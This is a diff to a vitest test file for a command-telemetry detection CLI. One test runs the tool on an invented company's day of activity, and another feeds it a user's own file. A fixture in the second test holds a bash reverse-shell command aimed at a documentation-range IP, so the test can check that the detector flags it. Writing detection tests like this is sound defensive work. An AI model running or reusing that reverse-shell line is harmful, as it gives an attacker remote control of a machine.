@@ -1,21 +1,38 @@
 import { spawnSync } from "node:child_process";
-import { readFileSync } from "node:fs";
 import { fileURLToPath } from "node:url";
 import { expect, it } from "vitest";
+import { fileOf, plainHistory } from "./run.js";
 
 const root = fileURLToPath(new URL("../../", import.meta.url));
 
-it("npm start tells the invented company's day, finds what was planted, and is what the README shows", () => {
-  const { status, stdout, stderr } = spawnSync(process.execPath, ["--import", "tsx", "lib/cli/start.ts"], {
+/** As the first command in a clone, away from a terminal. */
+const start = (...files: readonly string[]) =>
+  spawnSync(process.execPath, ["--import", "tsx", "lib/cli/start.ts", ...files], {
     cwd: root,
     encoding: "utf8",
     input: "",
   });
-  const shown =
-    /\n```\n([^`]+)```\n/.exec(readFileSync(`${root}README.md`, "utf8"))?.[1] ?? "the README shows no finding";
-  expect(stdout).toContain(shown);
-  expect(stdout).toContain("found   terraform-destroy");
-  expect(stdout).not.toMatch(/MISSED|LOUD/);
-  expect(stderr).toMatch(/judged [\d,]+ commands of \d+ principals: \d+ findings in 4 incidents/);
+
+it("npm start streams the invented company's day through the pipeline and finds what was planted, and nothing else", () => {
+  const { status, stdout, stderr } = start();
+  expect(stdout.match(/^ {2}found {3}\S+/gm)).toHaveLength(4);
+  expect(stdout.match(/^ {2}quiet {3}\S+/gm)).toHaveLength(3);
+  expect(stdout).toContain("and no other findings");
+  expect(stderr).toMatch(
+    /records put; .+ records in .+ batches .+ write units; \d+ findings told, put to alert .+ s median/,
+  );
+  expect(status).toBe(0);
+}, 60_000);
+
+it("npm start -- FILE streams your own telemetry, and tells what is found in it", () => {
+  const shell = {
+    id: "x",
+    time: "2026-03-20T10:00:00Z",
+    user: "ada",
+    command: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+  };
+  const { status, stdout, stderr } = start(fileOf(plainHistory(shell)));
+  expect(stdout).toContain("found however usual it is");
+  expect(stderr).toContain("401 records put");
   expect(status).toBe(0);
 }, 60_000);
